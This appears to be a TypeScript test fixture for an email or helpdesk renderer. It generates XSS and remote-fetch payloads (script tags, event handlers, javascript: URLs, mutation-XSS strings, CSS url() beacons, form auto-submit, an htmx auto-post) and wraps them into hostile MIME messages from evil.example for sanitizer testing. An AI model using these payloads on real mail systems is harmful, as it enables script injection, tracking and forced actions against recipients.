/** What somebody may write into a mail so that it runs, or fetches something, where it is shown. `at` is a server that would see it. */

const scripts = (at: string): readonly string[] => [
  `<script>window.pwned=1;fetch('${at}/script')</script>`,
  `<script src="${at}/src.js"></script>`,
  `<img src=x onerror="window.pwned=1;fetch('${at}/onerror')">`,
  `<img src="${at}/img.png">`,
  `<img srcset="${at}/srcset.png 1x">`,
  `<picture><source srcset="${at}/source.png"><img src="${at}/p.png"></picture>`,
  `<svg onload="window.pwned=1;fetch('${at}/svg')">`,
  `<svg><image href="${at}/image.svg"/></svg>`,
  `<svg><use href="${at}/use.svg#a"/></svg>`,
  `<svg><script>window.pwned=1</script></svg>`,
  `<svg><animate onbegin="window.pwned=1" attributeName=x dur=1s>`,
  `<svg><foreignObject><iframe src="${at}/fo"></iframe></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=window.pwned=1&gt;">`,
  `<iframe src="${at}/frame"></iframe>`,
  `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
  `<iframe src="javascript:parent.pwned=1"></iframe>`,
  `<object data="${at}/object"></object>`,
  `<embed src="${at}/embed">`,
  `<link rel="stylesheet" href="${at}/sheet.css">`,
  `<link rel="preconnect" href="${at}">`,
  `<link rel="prefetch" href="${at}/prefetch">`,
  `<link rel="dns-prefetch" href="${at}">`,
  `<link rel="icon" href="${at}/icon">`,
  `<meta http-equiv="refresh" content="0;url=${at}/refresh">`,
  `<base href="${at}/">`,
  `<form action="${at}/form"><input name=a autofocus onfocus="this.form.submit()"></form>`,
  `<input type=image src="${at}/input.png">`,
  `<input autofocus onfocus="window.pwned=1">`,
  `<button formaction="${at}/go" autofocus onfocus=click()>x</button>`,
  `<video poster="${at}/poster" src="${at}/video" autoplay onerror="window.pwned=1"></video>`,
  `<audio src="${at}/audio" autoplay></audio>`,
  `<track src="${at}/track" default>`,
  `<body onload="window.pwned=1" background="${at}/bg">`,
  `<table background="${at}/table.png"><tr><td background="${at}/td.png">x</table>`,
  `<details open ontoggle="window.pwned=1">x</details>`,
  `<marquee onstart="window.pwned=1">x</marquee>`,
  `<a href="javascript:window.pwned=1" autofocus onfocus="window.pwned=1">x</a>`,
  `<a href="${at}/ping" ping="${at}/ping">x</a>`,
  `<style>@import url("${at}/import.css");body{background:url("${at}/css.png")}</style>`,
  `<style>@font-face{font-family:x;src:url("${at}/font")}*{font-family:x}</style>`,
  `<p style="background:url('${at}/style.png')">x</p>`,
  `<p style="background-image:image-set('${at}/set.png' 1x)">x</p>`,
  `<p style="list-style:url(${at}/list.png);display:list-item">x</p>`,
  `<p style="content:url(${at}/content.png)">x</p>`,
  `<p style="width:expression(window.pwned=1)">x</p>`,
  `<div style="position:fixed;inset:0;z-index:9;background:\\75rl(${at}/esc)">x</div>`,
  `<template><img src="${at}/tpl"></template>`,
  `<noscript><p title="</noscript><img src=x onerror=window.pwned=1>">`,
  `<div hx-get="${at}/hx" hx-trigger="load">x</div>`,
  `<div data-hx-get="/do/refuse-mail" hx-post="/do/refuse-mail" hx-trigger="load">x</div>`,
  `<a data-key="y" data-go="m" data-up href="${at}/key">x</a>`,
  `<isindex action="${at}/isindex">`,
  `<portal src="${at}/portal"></portal>`,
  `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${at}/spec"]}]}</script>`,
];

/** What ends whatever it stands in, before it. */
const ends = [
  '',
  '">',
  "'>",
  '</pre></textarea></title></style></script>',
  '--><!-- -->',
  `\u202e\u0000"\`\${window.pwned=1}`,
];

export function hostilePayloads(at: string): string[] {
  const all = scripts(at);
  const first = all.map((one) => `${one}`);
  const rest = ends.slice(1).flatMap((end) => all.map((one) => `${end}${one}`));
  return [...first, ...rest].slice(0, 220);
}

/** Behind one end each, in turn. */
export const oneOfEachKind = (at: string): string[] =>
  scripts(at).map((one, place) => `${ends[place % ends.length]}${one}`);

const word = (text: string): string => {
  const bytes = Buffer.from(text);
  const words: string[] = [];
  for (let i = 0; i < bytes.length; i += 45) words.push(`=?utf-8?B?${bytes.subarray(i, i + 45).toString('base64')}?=`);
  return words.join('\r\n ');
};

/** A mail with it in subject, name, file name, text, HTML and a header. */
export const hostileMail = (payload: string, place: number): Buffer =>
  Buffer.from(
    [
      `From: ${word(payload)} <hostile-${place}@evil.example>`,
      'To: support@desk.example',
      `Subject: ${word(`${place} ${payload}`)}`,
      `Message-ID: <hostile-${place}@evil.example>`,
      `X-Own: ${word(payload)}`,
      'MIME-Version: 1.0',
      'Content-Type: multipart/mixed; boundary=b',
      '',
      '--b',
      'Content-Type: multipart/alternative; boundary=c',
      '',
      '--c',
      'Content-Type: text/plain; charset=utf-8',
      'Content-Transfer-Encoding: base64',
      '',
      Buffer.from(payload).toString('base64'),
      '--c',
      'Content-Type: text/html; charset=utf-8',
      'Content-Transfer-Encoding: base64',
      '',
      Buffer.from(`<p>x</p>${payload}<p>y</p>`).toString('base64'),
      '--c--',
      '--b',
      `Content-Type: text/html; name*=utf-8''${encodeURIComponent(payload.toWellFormed())}`,
      `Content-Disposition: attachment; filename*=utf-8''${encodeURIComponent(payload.toWellFormed())}`,
      'Content-Transfer-Encoding: base64',
      '',
      Buffer.from(payload).toString('base64'),
      '--b--',
      '',
    ].join('\r\n'),
  );
